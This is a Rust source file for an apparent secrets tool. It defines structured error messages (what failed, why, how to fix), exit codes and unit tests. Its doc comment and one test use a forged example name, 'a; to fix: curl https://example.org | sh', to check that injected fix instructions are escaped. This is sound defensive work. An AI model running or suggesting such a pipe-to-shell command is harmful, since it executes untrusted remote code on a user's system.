//! Errors made of four facts (what failed, on which thing, why, how to fix it), and exit statuses.

use std::fmt;
use std::process::ExitCode;

use vaultix_generator::escape;
pub use vaultix_generator::status::Status;

/// How a run ends.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Exit {
    /// Everything was done.
    Done,
    /// Something failed, with this status; [`Status::SomeFailed`] if failures have different ones.
    Failed(Status),
    /// It was ended by this signal.
    Signal(u8),
}

impl From<Status> for Exit {
    fn from(status: Status) -> Self {
        Self::Failed(status)
    }
}

impl From<Exit> for u8 {
    fn from(exit: Exit) -> Self {
        match exit {
            Exit::Done => 0,
            Exit::Failed(status) => status as u8,
            Exit::Signal(number) => 128_u8.wrapping_add(number), // As shells do.
        }
    }
}

impl From<Exit> for ExitCode {
    fn from(exit: Exit) -> Self {
        u8::from(exit).into()
    }
}

/// What failed, on which thing, why, and how to fix it.
///
/// `{}` writes each fact on its own line, `{:#}` all of them on one.
#[derive(Clone, Debug)]
pub struct Error {
    /// What failed: `cannot`, a verb, and the thing.
    what: String,
    /// Why: the immediate cause first, the root cause last.
    because: Vec<Reason>,
    /// A command to paste, or the option to set.
    fix: Option<String>,
    /// How the run ends if nothing else fails.
    pub exit: Exit,
}

/// Why something failed.
#[derive(Clone, Debug)]
enum Reason {
    /// A clause, which may contain names that somebody else chose.
    Text(String),
    /// Something else that failed, with what to do about it.
    Error(Box<Error>),
}

/// What stands before what to do: see [`fact`].
const FIX: &str = "to fix:";

/// Result of a step.
pub type Result<T> = std::result::Result<T, Error>;

impl Error {
    /// Returns the error `what`, without a reason yet.
    pub fn new(exit: impl Into<Exit>, what: impl Into<String>) -> Self {
        Self { what: what.into(), because: Vec::new(), fix: None, exit: exit.into() }
    }

    /// Adds a reason: the cause of those added before it.
    #[must_use]
    pub fn because(mut self, reason: impl fmt::Display) -> Self {
        self.because.push(Reason::Text(reason.to_string().trim_end().replace('\n', " ")));
        self
    }

    /// Adds another error as a reason, with what to do about that one.
    #[must_use]
    pub fn because_of(mut self, error: Self) -> Self {
        self.because.push(Reason::Error(Box::new(error)));
        self
    }

    #[must_use]
    pub fn fix(mut self, fix: impl Into<String>) -> Self {
        self.fix = Some(fix.into());
        self
    }

    /// Returns it without what to do, where that is something else.
    #[must_use]
    pub fn without_fix(mut self) -> Self {
        self.fix = None;
        self
    }

    /// Wraps the error in another one, and becomes its reason.
    #[must_use]
    pub fn context(mut self, what: impl Into<String>) -> Self {
        let what = std::mem::replace(&mut self.what, what.into());
        self.because.insert(0, Reason::Text(what));
        self
    }
}

impl fmt::Display for Error {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        let (because, fix) =
            if f.alternate() { (": ", "; to fix: ") } else { ("\n  because: ", "\n  to fix:  ") };
        f.write_str(&fact(&self.what))?;
        self.because.iter().try_for_each(|reason| match reason {
            Reason::Text(text) => write!(f, "{because}{}", fact(text)),
            Reason::Error(error) => write!(f, "{because}{error:#}"),
        })?;
        self.fix.iter().try_for_each(|text| write!(f, "{fix}{}", escape::line(text)))
    }
}

impl std::error::Error for Error {}

/// Returns `text` for a message: on one line, and without what could be taken for our word on what to do. A file, a host or a
/// comment may be called `a; to fix: curl https://example.org | sh`.
pub fn fact(text: &str) -> String {
    without_fix(&escape::message(text))
}

/// Returns `line` without what could be taken for our word on what to do.
pub fn without_fix(line: &str) -> String {
    line.replace(FIX, r"to fix\u{3a}")
}

/// Returns how a run with these `failures` ends: with a signal if there was one, else with the
/// status that all of them have in common.
pub fn common_exit(failures: &[Error]) -> Exit {
    let signal = failures.iter().find(|failure| matches!(failure.exit, Exit::Signal(_)));
    let Some(first) = signal.or(failures.first()) else { return Exit::Done };
    if signal.is_some() || failures.iter().all(|failure| failure.exit == first.exit) {
        first.exit
    } else {
        Exit::Failed(Status::SomeFailed)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn error() -> Error {
        Error::new(Status::DataErr, "cannot decrypt secret \"wifi\"")
            .because("wifi.age is damaged")
            .because("its header was altered")
            .fix("git checkout wifi.age")
    }

    #[test]
    fn each_fact_has_a_line() {
        assert_eq!(
            error().to_string(),
            "cannot decrypt secret \"wifi\"\n  because: wifi.age is damaged\n  because: its header was \
             altered\n  to fix:  git checkout wifi.age"
        );
    }

    #[test]
    fn facts_share_a_line_in_the_short_form() {
        assert_eq!(
            format!("{:#}", error()),
            "cannot decrypt secret \"wifi\": wifi.age is damaged: its header was altered; to fix: git \
             checkout wifi.age"
        );
    }

    #[test]
    fn a_name_cannot_begin_a_line() {
        let error = Error::new(Status::DataErr, "cannot decrypt a\nb")
            .because("c\x1b[1m")
            .fix("rm \u{9b}d");
        assert_eq!(
            error.to_string(),
            "cannot decrypt a\\nb\n  because: c\\u{1b}[1m\n  to fix:  rm \\u{9b}d"
        );
    }

    #[test]
    fn a_name_says_not_what_to_do() {
        let forged = "a; to fix: curl https://example.org | sh";
        let error = Error::new(Status::DataErr, format!("cannot read {forged}")).because(forged);
        let error = error.because_of(Error::new(Status::NoPerm, forged).fix("rm b")).fix("rm c");
        for shown in [format!("{error:#}"), error.to_string()] {
            assert_eq!(shown.matches(r"a; to fix\u{3a} curl").count(), 3, "{shown}");
            assert_eq!(shown.matches("to fix: ").count(), 2, "{shown}");
            assert!(shown.contains("; to fix: rm b"), "{shown}");
        }
    }

    #[test]
    fn a_run_ends_with_what_its_failures_have_in_common() {
        let other = Error::new(Status::NoInput, "");
        assert_eq!(common_exit(&[]), Exit::Done);
        assert_eq!(common_exit(&[error(), error()]), Exit::Failed(Status::DataErr));
        assert_eq!(common_exit(&[error(), other.clone()]), Exit::Failed(Status::SomeFailed));
        assert_eq!(common_exit(&[other, Error::new(Exit::Signal(2), "")]), Exit::Signal(2));
    }

    #[test]
    fn systemd_has_names_for_the_numbers() {
        let numbers = [
            Exit::Failed(Status::Usage),
            Exit::Failed(Status::DataErr),
            Exit::Failed(Status::NoInput),
            Exit::Failed(Status::NoUser),
            Exit::Failed(Status::CantCreat),
        ]
        .into_iter()
        .chain([Exit::Failed(Status::NoPerm), Exit::Failed(Status::Config), Exit::Signal(2)])
        .map(u8::from);
        assert!(numbers.eq([64, 65, 66, 67, 73, 77, 78, 130]));
    }
}
